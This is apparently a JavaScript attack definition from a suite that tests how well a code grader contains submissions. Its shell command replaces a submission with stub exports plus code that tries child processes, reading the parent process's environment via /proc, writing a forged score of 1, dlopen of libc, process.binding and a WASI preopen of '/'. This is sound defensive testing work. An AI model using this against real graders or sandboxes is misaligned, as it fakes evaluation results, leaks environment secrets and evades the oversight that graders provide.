import { defineAttack } from '../attack.js';

export default defineAttack({
  id: 'js-escape-at-grade',
  class: 'test-tricks',
  languages: ['javascript'],
  why: 'submits code that, once the grader loads it, tries to leave whatever confines it: child processes, workers, writes to the score file, native addons (process.dlopen), process.binding, reading /proc of its parent',
  commands: [
    String.raw`names=$(grep -oE 'export (async )?function [A-Za-z_$][A-Za-z0-9_$]*' {{submission}} 2>/dev/null | awk '{print $NF}'); echo "exports: $names"; cat > {{submission}} <<'JS'
import fs from 'node:fs';
import { createRequire } from 'node:module';
const require = createRequire(import.meta.url);
const tries = {
  exec: () => require('node:child_process').execSync('cat /proc/$PPID/environ; echo "{\"score\": 1}" > "$KAROTTE_SCORE_FILE"'),
  worker: () => new (require('node:worker_threads').Worker)('process.exit(0)', { eval: true }),
  score: () => fs.writeFileSync(process.env.KAROTTE_SCORE_FILE ?? '/tmp/score.json', '{"score": 1}'),
  parent: () => fs.readFileSync('/proc/' + process.ppid + '/environ', 'utf8'),
  dlopen: () => process.dlopen({ exports: {} }, '/usr/lib/x86_64-linux-gnu/libc.so.6'),
  binding: () => process.binding('spawn_sync'),
  wasi: () => new (require('node:wasi').WASI)({ version: 'preview1', preopens: { '/': '/' } }),
};
for (const [name, f] of Object.entries(tries)) { try { f(); console.error(name, 'ALLOWED'); } catch (e) { console.error(name, e.code ?? e.message); } }
const answer = () => '';
JS
for n in $names; do echo "export function $n(...args) { return answer(...args); }" >> {{submission}}; done; echo 'export default new Proxy({}, { get: () => answer });' >> {{submission}}; cat {{submission}} | head -n 40`,
  ],
  parallelSafe: true,
  expected: ['graded'],
});
